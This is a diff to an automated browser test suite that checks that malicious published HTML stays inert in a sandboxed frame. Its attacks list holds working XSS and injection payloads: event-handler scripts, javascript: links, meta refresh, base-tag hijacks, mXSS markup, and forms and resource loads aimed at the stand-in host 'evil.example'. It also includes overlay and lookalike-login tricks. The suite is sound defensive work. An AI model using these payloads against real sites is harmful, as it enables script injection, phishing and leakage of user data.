@@ -1,5 +1,5 @@
-// Published HTML that means harm, as if it had got past the server's cleaning: in its frame nothing of
-// it runs, asks anybody for anything, leads away or lies over the portal. Cases DC2 to DC4.
+// Malicious published HTML, as if it had passed the server's sanitizer: in its frame it cannot run
+// scripts, send requests, navigate or cover the portal. Cases DC2 to DC4.
 import { createServer, type Server } from 'node:http';
 import { resolve } from 'node:path';
 import type { Request } from 'playwright-core';
@@ -8,7 +8,7 @@ import { type BrowserProfile, openContext } from '#tests/kit/open-browser.ts';
 import { settled } from '#tests/kit/settled.ts';
 import { startTestApp, type TestApp } from '#tests/kit/test-app.ts';
 
-// In the texts only; in its place comes the address of a server that notes who asks it.
+// A placeholder in the attacks; it is replaced by the address of a server that records requests.
 const elsewhere = 'http://evil.example';
 const run = 'parent.ran=1;window.ran=1;top.ran=1';
 const attacks = [
@@ -17,21 +17,21 @@ const attacks = [
   ['an SVG that loads', `<svg onload="${run}"><image href="${elsewhere}/i.svg"/></svg>`],
   ['a picture that fails', `<img src="/none.png" onerror="${run}">`],
   ['a picture from elsewhere', `<img src="${elsewhere}/pixel.gif">`],
-  ['a link that is a script', `<a id="press" href="javascript:${run}">press</a>`],
-  ['a new address by itself', `<meta http-equiv="refresh" content="0;url=${elsewhere}/">`],
-  ['another base', `<base href="${elsewhere}/" target="_top"><a id="link" href="page">x</a>`],
+  ['a javascript: link', `<a id="press" href="javascript:${run}">press</a>`],
+  ['a meta refresh', `<meta http-equiv="refresh" content="0;url=${elsewhere}/">`],
+  ['a base element', `<base href="${elsewhere}/" target="_top"><a id="link" href="page">x</a>`],
   [
-    'a form for elsewhere',
+    'a form to another site',
     `<form action="${elsewhere}/" target="_top"><input name="a"><button id="press">press</button></form>`,
   ],
-  ['a form for our calls', `<form action="/auth/logout"><button id="press">press</button></form>`],
+  ['a form to our API', `<form action="/auth/logout"><button id="press">press</button></form>`],
   ['a frame', `<iframe src="${elsewhere}/"></iframe>`],
   ['a frame with a script', `<iframe srcdoc="<script>${run}</script>"></iframe>`],
   ['an object', `<object data="${elsewhere}/x.swf"></object><embed src="${elsewhere}/y">`],
-  ['styles from elsewhere', `<style>@import "${elsewhere}/a.css";</style>`],
-  ['a picture in a style', `<p style="background:url(${elsewhere}/b.png)">x</p>`],
+  ['an imported style sheet', `<style>@import "${elsewhere}/a.css";</style>`],
+  ['a background picture', `<p style="background:url(${elsewhere}/b.png)">x</p>`],
   [
-    'an early look at elsewhere',
+    'prefetch and preload',
     `<link rel="prefetch" href="${elsewhere}/"><link rel="preload" as="image" href="${elsewhere}/c.png">`,
   ],
   ['a video', `<video src="${elsewhere}/v.mp4" autoplay onerror="${run}"></video>`],
@@ -39,8 +39,14 @@ const attacks = [
     'mixed markup',
     `<math><mtext><mglyph><style><img src=x onerror="${run}"></style></mglyph></mtext></math>`,
   ],
-  ['a closed main', `</main></body></html><script>${run}</script><body onload="${run}">`],
-  ['a details that opens', `<details open ontoggle="${run}"><summary>x</summary></details>`],
+  [
+    'closing tags of the page',
+    `</main></body></html><script>${run}</script><body onload="${run}">`,
+  ],
+  [
+    'a details element that opens itself',
+    `<details open ontoggle="${run}"><summary>x</summary></details>`,
+  ],
 ] as const;
 
 let app: TestApp;
@@ -71,7 +77,7 @@ afterAll(async () => {
   await new Promise((done) => evil.close(done));
 });
 
-/** The documentation of a service with the attack in it, reached from the list. */
+/** Opens, from the list, the documentation of a service with the attack in it. */
 async function publish(html: string) {
   const page = await profile.context.newPage();
   const asked: Request[] = [];
@@ -97,11 +103,11 @@ async function publish(html: string) {
 }
 
 describe('published HTML with', () => {
-  test.each(attacks)('%s does nothing', async (_, html) => {
+  test.each(attacks)('%s has no effect', async (_, html) => {
     const { page, asked, faults } = await publish(html);
     const press = page.frameLocator('iframe').locator('#press');
     if ((await press.count()) > 0) await press.click();
-    // A round trip to the frame and to the server, so that whatever was set off has happened.
+    // A round trip to the frame and to the server, so that anything triggered has happened.
     await page.evaluate(async () => {
       await fetch('/healthz');
       await new Promise(requestAnimationFrame);
@@ -119,7 +125,7 @@ describe('published HTML with', () => {
     expect(state.ranInside).toBeUndefined();
     expect(state.base).not.toContain(evilHost);
     expect(state.link ?? '').not.toContain(evilHost);
-    // What the policy stops is reported as a request that failed; it never leaves the browser.
+    // What the policy blocks is reported as a failed request; it never leaves the browser.
     const left = () => asked.filter((one) => one.failure()?.errorText !== 'csp');
     await expect.poll(() => left().map((one) => one.url())).toEqual([]);
     expect(visits).toEqual([]);
@@ -129,7 +135,7 @@ describe('published HTML with', () => {
     await page.close();
   });
 
-  test('SC10: a policy that names the origin, because Firefox matches self with nothing there', async () => {
+  test("SC10: the policy names the origin, since 'self' matches nothing there in Firefox", async () => {
     const { page } = await publish('<p>x</p>');
     const policy = await page.evaluate(
       () =>
@@ -142,17 +148,17 @@ describe('published HTML with', () => {
     await page.close();
   });
 
-  test('a style that wants the whole screen stays in its frame', async () => {
+  test('a style that covers the whole screen stays within its frame', async () => {
     const { page } = await publish(
       '<div style="position:fixed;inset:0;z-index:99999;background:red">Log in again</div>',
     );
-    // A click goes to what lies on top, so this one would end in the red.
+    // A click hits the topmost element, so it would end on the red one.
     await page.getByRole('banner').getByRole('link', { name: 'Pricing' }).click();
     await page.getByRole('heading', { level: 1, name: 'Pricing' }).waitFor();
     await page.close();
   });
 
-  test('a link to another site that looks like one of ours never takes the place of the portal', async () => {
+  test('a link to a lookalike site never replaces the portal', async () => {
     const { page } = await publish('<a id="press" href="//evil.example/login">Log in</a>');
     const opened = profile.context.waitForEvent('page');
     await page.frameLocator('iframe').locator('#press').click();
